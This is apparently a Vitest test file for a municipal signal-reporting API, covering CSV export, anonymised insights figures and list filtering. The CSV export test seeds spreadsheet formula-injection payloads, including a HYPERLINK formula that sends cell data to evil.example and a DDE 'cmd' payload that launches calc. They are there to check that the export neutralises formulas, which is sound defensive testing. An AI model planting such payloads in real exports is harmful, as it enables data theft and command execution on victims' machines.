import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { InsightsDto, Signal, SignalListDto } from '@weerbaar/shared';
import { api } from './support/instance-harness.js';
import { seededPerson, startSignalsApi, type SignalsApiHarness } from './support/signals-api-harness.js';

const HENGELO = '0164';
const NOW = new Date('2026-11-20T10:00:00.000Z');
const DAY = 86_400_000;
const daysAgo = (days: number) => new Date(NOW.getTime() - days * DAY).toISOString();

/** RFC 4180 parsing, so the test reads the cells a spreadsheet would. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i += 1) {
    const char = text[i]!;
    if (quoted) {
      if (char === '"' && text[i + 1] === '"') (cell += '"'), (i += 1);
      else if (char === '"') quoted = false;
      else cell += char;
    } else if (char === '"') quoted = true;
    else if (char === ',') row.push(cell), (cell = '');
    else if (char === '\r' && text[i + 1] === '\n') {
      row.push(cell), rows.push(row), (row = []), (cell = ''), (i += 1);
    } else cell += char;
  }
  return rows;
}

describe('CSV export', () => {
  let h: SignalsApiHarness;
  beforeAll(async () => {
    h = await startSignalsApi({ codes: [HENGELO], now: NOW });
  });
  afterAll(async () => h?.close());

  it('neutralises formulas, quotes properly, and holds no reporter identity', async () => {
    const dangerous = [
      { description: '=HYPERLINK("http://evil.example/?d="&A1,"Klik hier")', location: '+31 6 12345678' },
      { description: '-2+3 en verder een gewone omschrijving', location: '@SUM(A1:A9)' },
      { description: '\tcmd|\' /C calc\'!A0', location: '\r=1+1' },
      { description: 'Gewoon, met een komma en "aanhalingstekens"\nop twee regels', location: 'Marktstraat 1, Hengelo' },
    ];
    const signals: Signal[] = [];
    for (const content of dangerous) signals.push(await h.addSignal(HENGELO, { confidentiality: 'named', content: { ...content, occurredOn: '2026-11-01' } }));

    const res = await fetch(`${h.baseUrl}/api/signals/export.csv`, {
      headers: { authorization: `Bearer ${await h.tokenFor(seededPerson(HENGELO, 'mt-contact')!)}` },
    });
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toMatch(/^text\/csv; charset=utf-8/);
    expect(res.headers.get('content-disposition')).toBe('attachment; filename="signalen-2026-11-20.csv"');
    expect(res.headers.get('cache-control')).toBe('no-store');
    const text = (await res.text()).replace(/^\uFEFF/, '');

    for (const signal of signals) {
      for (const secret of [signal.reporter!.displayName, signal.reporter!.upn, signal.reporter!.objectId, signal.content.involved!, signal.content.noticedHow!]) {
        expect(text).not.toContain(secret);
      }
    }
    const [header, ...rows] = parseCsv(text);
    const column = (name: string) => header!.indexOf(name);
    for (const [index, content] of dangerous.entries()) {
      const row = rows.find((cells) => cells[column('Referentie')] === signals[index]!.reference)!;
      const expectCell = (value: string) => (/^[=+\-@\t\r]/.test(value) ? `'${value}` : value);
      expect(row[column('Omschrijving')]).toBe(expectCell(content.description));
      expect(row[column('Locatie')]).toBe(expectCell(content.location));
    }
    // No cell at all starts with a formula character.
    for (const cells of rows) for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });
});

describe('insights', () => {
  let h: SignalsApiHarness;
  let token: string;
  const insights = async (query: string) => (await api(h.baseUrl, `/api/insights${query}`, { token })).body as unknown as InsightsDto;
  const addIn = async (month: string, department: string, count: number) => {
    for (let i = 0; i < count; i += 1) await h.addSignal(HENGELO, { department, receivedAt: `${month}-1${i % 9}T09:00:00.000Z` });
  };

  beforeAll(async () => {
    h = await startSignalsApi({ codes: [HENGELO], now: NOW });
    token = await h.tokenFor(seededPerson(HENGELO, 'mt-contact')!);
  });
  afterAll(async () => h?.close());

  it('suppresses departments with fewer than 5 signals', async () => {
    await addIn('2026-05', 'Vergunningen', 6);
    await addIn('2026-05', 'Burgerzaken', 5);
    await addIn('2026-05', 'Sociaal Domein', 3);
    await addIn('2026-05', 'Financiën', 1);
    const may = await insights('?from=2026-05-01&to=2026-05-31');
    expect(may.total).toBe(15);
    expect(may.byDepartment).toEqual([
      { department: 'Vergunningen', count: 6 },
      { department: 'Burgerzaken', count: 5 },
    ]);
    expect(may.suppressedDepartments).toBe(2);
    expect(may.byMonth).toEqual([{ month: '2026-05', count: 15 }]);
    expect(JSON.stringify(may)).not.toContain('Sociaal Domein');
  });

  it('hides a second department when only one would be hidden, so its count cannot be subtracted', async () => {
    await addIn('2026-06', 'Vergunningen', 7);
    await addIn('2026-06', 'Burgerzaken', 6);
    await addIn('2026-06', 'Sociaal Domein', 2);
    const june = await insights('?from=2026-06-01&to=2026-06-30');
    expect(june.byDepartment).toEqual([{ department: 'Vergunningen', count: 7 }]);
    expect(june.suppressedDepartments).toBe(2);
  });

  it('leaves signals about the MT contact out of the figures of those who may not see them', async () => {
    const totalFor = async (role: 'mt-contact' | 'coordinator' | 'mt-deputy' | 'secretary') =>
      ((await api(h.baseUrl, '/api/insights', { token: await h.tokenFor(seededPerson(HENGELO, role)!) })).body as unknown as InsightsDto).total;
    const before = { mt: await totalFor('mt-contact'), coordinator: await totalFor('coordinator'), deputy: await totalFor('mt-deputy'), secretary: await totalFor('secretary') };
    await h.addSignal(HENGELO, { concernsMtContact: true });
    expect(await totalFor('mt-contact')).toBe(before.mt);
    expect(await totalFor('coordinator')).toBe(before.coordinator);
    expect(await totalFor('mt-deputy')).toBe(before.deputy + 1);
    expect(await totalFor('secretary')).toBe(before.secretary + 1);
  });

  it('counts per category and status, open too long, feedback overdue and the median time to acknowledge', async () => {
    const from = '2026-08-01';
    await h.addSignal(HENGELO, { receivedAt: '2026-08-03T08:00:00.000Z', category: 'drugs', status: 'acknowledged', acknowledgedAt: '2026-08-03T20:00:00.000Z' });
    await h.addSignal(HENGELO, { receivedAt: '2026-08-04T08:00:00.000Z', category: 'drugs', status: 'closed', acknowledgedAt: '2026-08-05T08:00:00.000Z', closedAt: '2026-08-20T08:00:00.000Z', outcome: 'opgepakt' });
    await h.addSignal(HENGELO, { receivedAt: '2026-08-05T08:00:00.000Z', category: 'zorgfraude' });
    const figures = await insights(`?from=${from}&to=2026-08-31`);
    expect(figures.total).toBe(3);
    expect(figures.byCategory).toMatchObject({ drugs: 2, zorgfraude: 1, witwassen: 0 });
    expect(figures.byStatus).toEqual({ received: 1, acknowledged: 1, 'in-progress': 0, forwarded: 0, closed: 1 });
    expect(figures.medianHoursToAcknowledge).toBe(18);
    expect(figures.openLongerThan7Days).toBe(2);
    // Acknowledged 3 Aug: feedback due 3 Nov; never acknowledged (5 Aug): due 12 Nov; both overdue on 20 Nov.
    expect(figures.feedbackOverdue).toBe(2);
  });
});

describe('list filters, sorting and paging', () => {
  let h: SignalsApiHarness;
  let token: string;
  const list = async (query: string) => (await api(h.baseUrl, `/api/signals${query}`, { token })).body as unknown as SignalListDto;

  beforeAll(async () => {
    h = await startSignalsApi({ codes: [HENGELO], now: NOW });
    token = await h.tokenFor(seededPerson(HENGELO, 'coordinator')!);
  });
  afterAll(async () => h?.close());

  it('filters on overdue acknowledgement and feedback exactly as the legal clocks count', async () => {
    const late = await h.addSignal(HENGELO, { receivedAt: daysAgo(8) });
    const inTime = await h.addSignal(HENGELO, { receivedAt: daysAgo(7) });
    const feedbackLate = await h.addSignal(HENGELO, { receivedAt: daysAgo(100), status: 'in-progress', acknowledgedAt: daysAgo(95) });
    const closed = await h.addSignal(HENGELO, { receivedAt: daysAgo(100), status: 'closed', acknowledgedAt: daysAgo(95), closedAt: daysAgo(10), outcome: 'opgepakt' });
    const ack = (await list('?overdue=acknowledgement')).items;
    expect(ack.map((item) => item.id)).toEqual([late.id]);
    expect(ack[0]!.overdue.acknowledgement).toBe(true);
    const feedback = (await list('?overdue=feedback')).items.map((item) => item.id);
    expect(feedback).toContain(feedbackLate.id);
    expect(feedback).not.toContain(closed.id);
    expect(feedback).not.toContain(inTime.id);
  });

  it('pages with a cursor in every sort order without skipping or repeating', async () => {
    for (let i = 0; i < 12; i += 1) {
      await h.addSignal(HENGELO, {
        receivedAt: `2026-09-${String(10 + (i % 5)).padStart(2, '0')}T09:00:00.000Z`,
        category: i % 2 === 0 ? 'drugs' : 'vastgoed',
        status: i % 3 === 0 ? 'acknowledged' : 'received',
      });
    }
    for (const sort of ['-receivedAt', 'receivedAt', 'status', 'category']) {
      const all = (await list(`?from=2026-09-01&to=2026-09-30&sort=${sort}&pageSize=200`)).items.map((item) => item.id);
      expect(all).toHaveLength(12);
      const paged: string[] = [];
      let cursor: string | undefined;
      do {
        const page = await list(`?from=2026-09-01&to=2026-09-30&sort=${sort}&pageSize=5${cursor ? `&cursor=${cursor}` : ''}`);
        paged.push(...page.items.map((item) => item.id));
        cursor = page.nextCursor;
      } while (cursor);
      expect(paged).toEqual(all);
    }
    const drugs = (await list('?from=2026-09-01&to=2026-09-30&category=drugs&status=acknowledged')).items;
    expect(drugs.every((item) => item.category === 'drugs' && item.status === 'acknowledged')).toBe(true);
    expect(drugs).toHaveLength(2);
  });

  it('finds by department only where the reporter chose to be named', async () => {
    const named = await h.addSignal(HENGELO, { confidentiality: 'named', department: 'Belastingen' });
    const confidential = await h.addSignal(HENGELO, { confidentiality: 'confidential', department: 'Belastingen' });
    const found = (await list('?department=Belastingen')).items;
    expect(found.map((item) => item.id)).toEqual([named.id]);
    expect(found[0]!.department).toBe('Belastingen');
    const detail = await api(h.baseUrl, `/api/signals/${confidential.id}`, { token });
    expect(detail.body.department).toBeNull();
  });
});
